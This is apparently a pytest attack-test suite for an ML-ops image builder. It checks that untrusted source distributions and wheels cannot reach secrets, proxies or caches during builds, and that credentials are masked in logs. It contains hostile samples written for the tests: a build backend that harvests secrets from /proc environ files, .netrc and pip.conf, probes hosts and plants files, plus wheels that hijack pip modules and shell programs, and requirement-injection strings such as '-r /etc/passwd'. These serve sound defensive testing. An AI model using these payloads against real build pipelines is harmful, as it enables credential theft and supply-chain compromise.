"""A package that a stranger names runs nothing where a secret, a proxy, a cache or somebody else's
environment is.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
import uuid
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from servers.packages import SECRET, PackageIndex

from mlops_lib.engine import Engine, buildkit, package_index, sdists, venv
from mlops_lib.engine.docker import DockerEngine
from mlops_lib.engine.process import ProcessEngine
from mlops_lib.environments import images
from mlops_lib.errors import ImageError
from mlops_lib.provisioning import cache, resolution
from mlops_lib.records import Environment, Image

pytestmark = pytest.mark.attack
PROXY_SECRET = "n0t-in-any-build"

BACKEND = """
import base64, glob, hashlib, io, os, socket, subprocess, sys, zipfile

def found():
    seen = []
    words = [WORDS]
    for place in ["/proc/self/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/run/secrets/*"),
                  "HOME/.netrc", "HOME/.config/pip/pip.conf", *glob.glob("/etc/pip.conf")]:
        try:
            text = open(place, "rb").read().decode(errors="replace")
        except OSError:
            continue
        seen += ["read %s in %s" % (word, place) for word in words if word in text]
    seen += ["proxy " + name for name in os.environ if "proxy" in name.lower() and os.environ[name]]
    if 0 in (os.getuid(), os.geteuid()) or 0 in os.getgroups():
        seen.append("root")
    for host, port in [HOSTS]:
        try:
            socket.create_connection((host, port), timeout=2).close()
            seen.append("reached %s" % host)
        except OSError:
            pass
    for place in ("/root/.cache/pip", "HOME/.cache/pip", "/usr/lib/python3", "/usr/local/lib", "/mlops/wheels", "/etc"):
        try:
            open(place + "/planted", "w").close()
            seen.append("wrote " + place)
        except OSError:
            pass
    return seen

def wheel(folder, name, version, text):
    info = "%s-%s.dist-info" % (name, version)
    files = {name + ".py": text, info + "/METADATA": "Metadata-Version: 2.1\\nName: %s\\nVersion: %s\\n" % (name, version),
             info + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
    files[info + "/RECORD"] = "".join("%s,,\\n" % path for path in files) + info + "/RECORD,,\\n"
    file = "%s-%s-py3-none-any.whl" % (name, version)
    with zipfile.ZipFile(os.path.join(folder, file), "w") as archive:
        for path, content in files.items():
            archive.writestr(path, content)
    return file

def build_wheel(folder, *_, **__):
    out = [word for word in sys.orig_argv] if hasattr(sys, "orig_argv") else []
    for place in glob.glob("/mlops/out") + glob.glob("/tmp/mlops-sdist-*/out"):
        try:
            wheel(place, "acme_other", "99.0", "stolen = True")
            os.symlink("/etc/passwd", place + "/acme_link-1.0-py3-none-any.whl")
            os.mkfifo(place + "/acme_fifo-1.0-py3-none-any.whl")
        except OSError:
            pass
    return wheel(folder, "acme_evil", "1.0", "found = %r" % found())
"""


@pytest.fixture
def host() -> str:
    """This machine as a container sees it, and as it sees itself."""
    done = subprocess.run(
        [buildkit.client_program(), "network", "inspect", "bridge"],
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode:
        return "127.0.0.1"
    gateway = json.loads(done.stdout)[0]["IPAM"]["Config"][0]
    return str(gateway.get("Gateway") or gateway["Subnet"].rsplit(".", 1)[0] + ".1")


@pytest.fixture(params=["process", pytest.param("docker", marks=pytest.mark.docker)])
def engine(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Engine]:
    home = tmp_path / "home"
    if request.param == "process":
        yield ProcessEngine(home=str(home))
        return
    made = DockerEngine(home=str(home))
    yield made
    made.remove_images(cache.unneeded(made.images(), (), home=cache.name_of_home(str(home))))


@pytest.fixture
def operator(
    package_index: PackageIndex, host: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> PackageIndex:
    """The operator's index wants a password, and proxies are set with theirs; PATH has no uv."""
    for name in [name for name in os.environ if name.startswith(("PIP_", "UV_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("PIP_INDEX_URL", package_index.url(host))
    monkeypatch.setenv("PIP_TRUSTED_HOST", host)
    monkeypatch.setenv("http_proxy", f"http://builder:{PROXY_SECRET}@127.0.0.1:1")
    monkeypatch.setenv("no_proxy", host)
    folders = [folder for folder in os.get_exec_path() if not (Path(folder) / "uv").exists()]
    monkeypatch.setenv("PATH", os.pathsep.join(folders))
    return package_index


def need(engine: Engine, *requirements: str, imports: tuple[str, ...] = ()) -> resolution.Need:
    """One that no other test has: its image is this test's to remove."""
    environment = Environment(
        name="tests",
        framework="none",
        family="none",
        requirements=requirements,
        variables={"OWN": uuid.uuid4().hex},
    )
    return resolution.Need(
        environment=environment, imports=imports, base_image="python:3.11-slim", backend=engine.name
    )


def file_in(image: Image, engine: Engine, name: str) -> str:
    """The text of a module as it was installed; nothing of the image runs."""
    if isinstance(engine, ProcessEngine):
        folder = venv.place(engine.home, image.environment)
        return "".join(path.read_text() for path in folder.rglob(name))
    container = engine._client.containers.create(image.tag)
    try:
        stream, _ = container.get_archive("/usr/local/lib")
        with tarfile.open(fileobj=io.BytesIO(b"".join(stream))) as opened:
            members = [one for one in opened if one.name.endswith(f"/{name}")]
            return "".join(opened.extractfile(one).read().decode() for one in members)  # type: ignore[union-attr]
    finally:
        container.remove(force=True)


def test_a_source_distribution_is_built_where_nothing_is(
    engine: Engine, operator: PackageIndex, host: str, tmp_path: Path
) -> None:
    hosts = f"({host!r}, {operator.port}), ('127.0.0.1', {operator.port}), ('127.0.0.1', 1)"
    home = str(Path.home())
    backend = (
        BACKEND.replace("WORDS", f"{SECRET!r}, {PROXY_SECRET!r}")
        .replace("HOSTS", hosts)
        .replace("HOME", home)
    )
    operator.add_sdist("acme_evil", backend=backend)
    operator.add("acme_other")
    told: list[dict[str, Any]] = []
    asked = need(engine, "acme_evil", "acme_other", imports=("acme_evil", "acme_other"))
    if engine.name == "docker":
        image = resolution.make(asked, engine=engine, home=tmp_path / "home", observer=told.append)
        assert "is built from source" in image.notes[0]
    else:
        source = sdists.find("acme_evil", python="3.11")
        image = images.plan(replace(asked.environment, sdists=(str(source),)))
        engine.build(image, on_line=lambda line: told.append({"line": line}))
    assert image.environment.sdists[0].startswith("acme-evil==1.0 --hash=sha256:")
    assert file_in(image, engine, "acme_evil.py") == "found = []"
    assert file_in(image, engine, "acme_other.py") == "version = '1.0'\n", (
        "what it left beside its own is not taken"
    )
    said = json.dumps([told, image.to_json()])
    assert SECRET not in said
    assert PROXY_SECRET not in said
    # The same archive built alike is kept; another one of that name and version is not taken for
    # it.
    operator.add_sdist("acme_evil", backend=backend + "# another\n")
    changed = replace(
        image, environment=replace(image.environment, variables={"OWN": uuid.uuid4().hex})
    )
    changed = images.plan(changed.environment, base_image=image.base_image)
    kept = next((tmp_path / "home" / "environments" / "wheels").iterdir())
    kept.rename(kept.with_name("other"))
    if engine.name == "docker":
        with pytest.raises(ImageError, match="another file under its name"):
            engine.build(changed, on_line=lambda line: None)


WRITES = "import os\ntry:\n    open('/mlops/ran', 'w').close()\n    os.environ['x']\nexcept Exception:\n    pass\n"


@pytest.mark.docker
def test_a_wheel_runs_nothing_while_an_image_is_built(
    operator: PackageIndex, host: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It replaces modules that pip loads late, and the programs that later steps start."""
    engine = DockerEngine(home=str(tmp_path / "home"))
    shell = '#!/bin/bash\ntouch /mlops/ran\nexec /bin/bash "$@"\n'
    name = f"acme_{uuid.uuid4().hex[:8]}"  # the builder has no layer of it
    data, places = f"{name}-1.0.data", ("scripts", "data/bin")
    programs = {
        f"{data}/{place}/{program}": shell
        for place in places
        for program in ("sh", "mkdir", "chmod")
    }
    late = (
        "pip/_internal/operations/check",
        "pip/_internal/self_outdated_check",
        "pip/_internal/commands/__init__",
    )
    operator.add(
        name,
        files={
            **programs,
            f"{data}/scripts/python": "#!/bin/bash\ntouch /mlops/ran\n",
            f"{name}.pth": "import acme_start",
            "acme_start.py": WRITES,
            "sitecustomize.py": WRITES,
            **{f"{path}.py": WRITES for path in late},
        },
    )
    image = images.plan(need(engine, name).environment)
    try:
        engine.build(image, on_line=lambda line: None)
        assert "version" in file_in(image, engine, f"{name}.py")
        container = engine._client.containers.create(image.tag)
        try:
            import docker.errors

            with pytest.raises(docker.errors.NotFound):
                container.get_archive("/mlops/ran")
        finally:
            container.remove(force=True)
    finally:
        engine.remove_images(
            cache.unneeded(engine.images(), (), home=cache.name_of_home(str(tmp_path / "home")))
        )


def test_an_address_in_a_packages_metadata_is_never_built(
    operator: PackageIndex, host: str, tmp_path: Path
) -> None:
    """Both backends download with this program; `--only-binary` says nothing about addresses."""
    call = f"import urllib.request\nurllib.request.urlopen('http://{host}:{operator.port}/ran')\n"
    operator.add_sdist("acme_evil", backend=call)
    operator.add(
        "acme_tool",
        requires=f"acme_evil @ http://{host}:{operator.port}/files/acme_evil-1.0.tar.gz",
    )
    command = [
        sys.executable,
        "-I",
        str(images.CONTAINERS / "fetch.py"),
        str(tmp_path / "wheels"),
        "acme_tool",
    ]
    done = subprocess.run(command, capture_output=True, text=True, check=False, cwd="/")
    assert done.returncode != 0
    assert "wants to be built from source" in done.stdout + done.stderr
    assert "/files/acme_evil-1.0.tar.gz" in operator.paths
    assert "/ran" not in operator.paths
    assert SECRET not in done.stdout + done.stderr


def test_what_a_build_leaves_is_taken_only_as_what_it_was_asked_for() -> None:
    source = sdists.Source("acme-evil", "1.0", "0" * 64)
    assert sdists.Source.read(str(source)) == source
    index_of_wheels = PackageIndex()
    index_of_wheels.close()
    index_of_wheels.add("acme_evil", requires="acme_more @ http://127.0.0.1/x.tar.gz")
    name, content = next(iter(index_of_wheels.wheels.items()))
    with pytest.raises(ImageError, match="only names with versions"):
        sdists.valid_wheel(source, [(name, content)])
    for other in (
        "acme_other-1.0-py3-none-any.whl",
        "acme_evil-2.0-py3-none-any.whl",
        "../acme_evil-1.0-py3-none-any.whl",
    ):
        with pytest.raises(ImageError, match="left no wheel"):
            sdists.valid_wheel(source, [(other, content)])
    with pytest.raises(ImageError, match="no sound wheel"):
        sdists.valid_wheel(source, [(name, b"no archive")])


def archive_of(folder: Path, pyproject: str | tarfile.TarInfo) -> Path:
    place = folder / f"{uuid.uuid4().hex}-1.0.tar.gz"
    with tarfile.open(place, "w:gz") as archive:
        entry = tarfile.TarInfo("x-1.0/pyproject.toml") if isinstance(pyproject, str) else pyproject
        content = pyproject.encode() if isinstance(pyproject, str) else b""
        entry.size = len(content)
        archive.addfile(entry, io.BytesIO(content))
    return place


def test_an_archive_is_looked_into_without_being_run_or_unpacked(tmp_path: Path) -> None:
    assert sdists.build_requires(
        archive_of(tmp_path, "[build-system]\nrequires = ['hatchling>=1']\n")
    ) == ("hatchling>=1",)
    assert sdists.build_requires(archive_of(tmp_path, "no toml [")) == sdists.LEGACY
    for nested in ("a" + ".a" * 60_000 + " = 1\n", "a = " + "[" * 60_000):  # minutes, a full stack
        assert sdists.build_requires(archive_of(tmp_path, nested)) == sdists.LEGACY
    for asked in (
        "x @ http://127.0.0.1/x.tar.gz",
        "--index-url=http://127.0.0.1",
        "-r /etc/passwd",
        "/etc/passwd",
    ):
        with pytest.raises(ImageError, match="not a name with versions"):
            sdists.build_requires(archive_of(tmp_path, f"[build-system]\nrequires = [{asked!r}]\n"))
    link = tarfile.TarInfo("x-1.0/pyproject.toml")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    assert sdists.build_requires(archive_of(tmp_path, link)) == sdists.LEGACY
    huge = tarfile.TarInfo("x-1.0/data")
    place = tmp_path / "huge-1.0.tar"
    huge.size = 1 << 40
    place.write_bytes(huge.tobuf())
    place = place.rename(tmp_path / "huge-1.0.tar.gz")
    with pytest.raises(ImageError, match="cannot be read"):
        sdists.build_requires(place)


URLS = {
    "PIP_INDEX_URL": "https://bu%2Filder:pa%2Fss%40word@index.example:8443/tok_0123456789abcdef/simple/",
    "PIP_EXTRA_INDEX_URL": "https://glpat-0123456789@extra.example/simple https://third.example/simple?key=K3yK3yK3y",
    "PIP_PROXY": "proxyuser:pr0xy/secret@proxy.example:3128",
    "https_proxy": "http://other:s3cr3t-proxy@proxy.example:3128/",
    "UV_INDEX": "https://uvuser:uvs3cret@uv.example/simple",
}
SECRETS = (
    "pa%2Fss%40word",
    "pa/ss@word",
    "tok_0123456789abcdef",
    "glpat-0123456789",
    "K3yK3yK3y",
    "pr0xy/secret",
    "pr0xy%2Fsecret",
    "s3cr3t-proxy",
    "uvs3cret",
)


@pytest.mark.parametrize("secret", SECRETS)
def test_no_form_of_a_credential_is_printed(secret: str) -> None:
    mask = package_index.Mask({"HOME": "/nonexistent", **URLS})
    urls = " ".join(URLS.values())
    for line in (
        f"Looking in indexes: {urls}",
        "Downloading https://index.example:8443/tok_0123456789abcdef/files/a-1.0-py3-none-any.whl?key=K3yK3yK3y (3 kB)",
        f"ProxyError: cannot connect to {secret}",
        f"'{secret}' at https://a:{secret}@somewhere.example/x",
    ):
        assert secret not in mask(line)
    plain = (
        "Downloading https://files.example/a-1.0-py3-none-any.whl (3 kB): The user requested a==1.0"
    )
    assert mask(plain) == plain
